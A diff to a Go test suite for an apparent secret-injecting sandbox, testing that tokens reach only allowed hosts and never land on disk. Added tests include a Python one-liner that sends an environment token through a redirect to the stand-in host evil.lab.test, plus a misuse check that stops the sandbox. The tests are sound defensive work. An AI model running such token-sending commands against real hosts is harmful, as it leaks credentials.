@@ -1,14 +1,15 @@
 package test
 
 import (
+	"bytes"
 	"encoding/base64"
 	"encoding/json"
 	"errors"
 	"fmt"
+	"io"
 	"io/fs"
 	"net/http"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -17,6 +18,7 @@ import (
 
 	"github.com/google/go-containerregistry/pkg/v1/mutate"
 	"github.com/google/go-containerregistry/pkg/v1/tarball"
+	"golang.org/x/sys/unix"
 
 	"github.com/useshards/shard"
 	"github.com/useshards/shard/internal/testenv"
@@ -85,14 +87,19 @@ func (s *seen) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	_, _ = fmt.Fprintln(w, "you said", r.Header.Get("Authorization"))
 }
 
-// last is the newest request.
-func (s *seen) last() string {
+func (s *seen) all() []string {
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	if len(s.headers) == 0 {
+	return slices.Clone(s.headers)
+}
+
+// last is the newest request.
+func (s *seen) last() string {
+	all := s.all()
+	if len(all) == 0 {
 		return ""
 	}
-	return s.headers[len(s.headers)-1]
+	return all[len(all)-1]
 }
 
 // bearer asks URLs with the variable of that name in a header, with what the sandbox trusts, and prints a line for each.
@@ -127,6 +134,7 @@ func TestSecretLife(t *testing.T) {
 	d := secretDaemon(t, testenv.Options{})
 	got := &seen{}
 	d.Lab().Web().Handle("/seen", got)
+	d.Lab().Web().Handle("/away", http.RedirectHandler("https://evil.lab.test/seen", http.StatusFound))
 	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
 		const dest, evil = "https://dest.lab.test/seen", "https://evil.lab.test/seen"
 		name := "TOKEN_" + strings.ToUpper(provider)
@@ -160,6 +168,10 @@ func TestSecretLife(t *testing.T) {
 		want("at first", dest, echo, "dest.lab.test Bearer value-one-"+provider)
 		want("elsewhere", evil, echo, "evil.lab.test Bearer "+mock) // nobody looks into that: it is the host's own certificate
 		want("in the clear", "http://evil.lab.test/seen", echo, "evil.lab.test Bearer "+mock)
+		follow := `import os, urllib.request as u; print(u.urlopen(u.Request("https://dest.lab.test/away", headers={"Authorization": "Bearer " + os.environ["` + name + `"]})).status)`
+		if r := d.Shard("exec", id, "python3", "-c", follow); r.Stdout != "200\n" || got.last() != "evil.lab.test Bearer "+mock {
+			t.Errorf("after a redirect: %+v, the host got %q", r, got.last())
+		}
 		setSecret(t, d, "value-two-"+provider, name)
 		want("after a rotation", dest, echo, "dest.lab.test Bearer value-two-"+provider)
 		setSecret(t, d, "value-three-"+provider, "--dest", "*.lab.test", name)
@@ -204,18 +216,36 @@ func TestSecretLife(t *testing.T) {
 		if out := sh(t, d, id, "echo ${"+name+"-none} $SSL_CERT_FILE; grep -c BEGIN "+trustFile); out != "none "+trustFile+"\n2" {
 			t.Errorf("after the ungrant: %q", out)
 		}
-		setSecret(t, d, "value-four", "--dest", "dest.lab.test", name)
+		setSecret(t, d, "value-four", "--dest", "dest.lab.test", "--on-misuse", "stop", name)
 		want("after the ungrant", "http://dest.lab.test/seen", "200 you said Bearer none", "dest.lab.test Bearer none")
+		d.Must("stop", id)
+		d.Must("secret", "grant", id, name)
+		d.Must("start", id)
+		want("granted again", dest, echo, "dest.lab.test Bearer value-four")
+		d.Shard("exec", id, "python3", "-c", bearer, name, "http://evil.lab.test/seen")
+		testenv.Eventually(t, "a misuse stops the sandbox", func() (bool, string) {
+			in := inspect(t, d, id)
+			return in.State == shard.StateStopped && strings.Contains(in.StoppedReason, "evil.lab.test"), fmt.Sprintf("%+v", in)
+		})
+		d.Must("start", id) // what was done before does not count
+		want("started again", dest, echo, "dest.lab.test Bearer value-four")
 	})
 }
 
 // TestSecretEnvironment: every kind of command finds the placeholder, and none the value.
 func TestSecretEnvironment(t *testing.T) {
 	t.Parallel()
-	d := start(t)
+	credentials := t.TempDir()
+	if err := os.WriteFile(filepath.Join(credentials, "secret-key"), []byte(strings.Repeat("c3", 32)+"\n"), 0o400); err != nil {
+		t.Fatal(err)
+	}
+	d := start(t, testenv.Options{Env: []string{"CREDENTIALS_DIRECTORY=" + credentials}})
 	importTrusting(t, d)
 	setSecret(t, d, "value-of-a", "--dest", "a.example", "A_KEY")
 	setSecret(t, d, "value-of-b", "--dest", "b.example", "--placeholder", "sk-test-00000000", "B_KEY")
+	if data, err := os.ReadFile(filepath.Join(d.Root, "secrets", "A_KEY")); err != nil || strings.Contains(string(data), "value-of-a") {
+		t.Errorf("a secret under the key that systemd gives: %v %s", err, data)
+	}
 	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
 		id := box(t, d, provider, "--secret", "A_KEY", "--secret", "B_KEY", "--secret", "A_KEY", "--env", "OWN=yes", trusting)
 		const line = "mock-A_KEY sk-test-00000000 yes yes " + trustFile + " " + trustFile + " " + trustFile + " " + trustFile
@@ -395,8 +425,8 @@ func TestSecretIsNowhere(t *testing.T) {
 			"https://nowhere.lab.test/", "https://dest.lab.test:8443/") {
 			answers.WriteString(line)
 		}
-		if !slices.Contains(got.headers, "dest.lab.test Bearer "+value) {
-			t.Fatalf("the host never got the value: %q", got.headers)
+		if all := got.all(); !slices.Contains(all, "dest.lab.test Bearer "+value) {
+			t.Fatalf("the host never got the value: %q", all)
 		}
 		// A program that keeps what it was answered, in memory and in a file.
 		d.Must("run", id, "--name", "keeper", "--", "python3", "-c", bearer+"\nopen('/root/kept','w').write(repr(r.getheaders())+repr(c))\nimport time\ntime.sleep(600)", name, "https://dest.lab.test/seen")
@@ -427,17 +457,10 @@ func TestSecretIsNowhere(t *testing.T) {
 				t.Errorf("the daemon's log holds the value")
 			}
 			inProcesses(t, n)
-			d.Must("exec", id, "sync")
-			// Files come and go meanwhile: an exit code of 2 is no failure.
-			out, err := exec.CommandContext(t.Context(), "grep", "-rlaFs", "--devices=skip", n, d.Root).Output()
-			if e, ok := errors.AsType[*exec.ExitError](err); err != nil && (!ok || e.ExitCode() > 2) {
-				t.Fatalf("grep: %v", err)
-			}
-			for _, file := range strings.Fields(string(out)) {
-				if rel, _ := filepath.Rel(d.Root, file); rel != filepath.Join("secrets", name) {
-					t.Errorf("the value is in %s", rel)
-				}
-			}
+		}
+		d.Must("exec", id, "sync")
+		if files := search(t, d.Root, needles...); !slices.Equal(files, []string{filepath.Join("secrets", name)}) {
+			t.Errorf("the value is in %q, want the store alone", files)
 		}
 		// As root in the sandbox. What is looked for is sent backwards, so that looking does not find itself.
 		backwards := []rune(value)
@@ -455,6 +478,67 @@ func TestSecretIsNowhere(t *testing.T) {
 			t.Error(err)
 		}
 	})
+}
+
+// search names the files below root that hold one of the needles. What mounts show is in the files below them too.
+func search(t *testing.T, root string, needles ...string) (found []string) {
+	t.Helper()
+	err := filepath.WalkDir(root, func(path string, e fs.DirEntry, err error) error {
+		switch {
+		case errors.Is(err, fs.ErrNotExist):
+			return nil // gone meanwhile
+		case err != nil:
+			return err
+		case e.IsDir() && (e.Name() == "rootfs" || e.Name() == "disk"):
+			return fs.SkipDir
+		case !e.Type().IsRegular():
+			return nil
+		}
+		holds, err := fileHolds(path, needles)
+		if holds {
+			rel, _ := filepath.Rel(root, path)
+			found = append(found, rel)
+		}
+		if errors.Is(err, fs.ErrNotExist) {
+			err = nil
+		}
+		return err
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return found
+}
+
+// fileHolds looks through a file's data; disks are holes for the most part.
+func fileHolds(path string, needles []string) (bool, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return false, err
+	}
+	defer f.Close()
+	const overlap = 256
+	buf := make([]byte, 1<<20+overlap)
+	for at := int64(0); ; {
+		if at, err = f.Seek(at, unix.SEEK_DATA); errors.Is(err, unix.ENXIO) || errors.Is(err, unix.ESPIPE) {
+			return false, nil // nothing but a hole is left, or it is a namespace
+		} else if err != nil {
+			return false, err
+		}
+		n, err := f.ReadAt(buf, at)
+		for _, needle := range needles {
+			if bytes.Contains(buf[:n], []byte(needle)) {
+				return true, nil
+			}
+		}
+		if err == io.EOF {
+			return false, nil
+		}
+		if err != nil {
+			return false, err
+		}
+		at += int64(n) - overlap
+	}
 }
 
 // inProcesses looks through the arguments and environments of every process of this host.
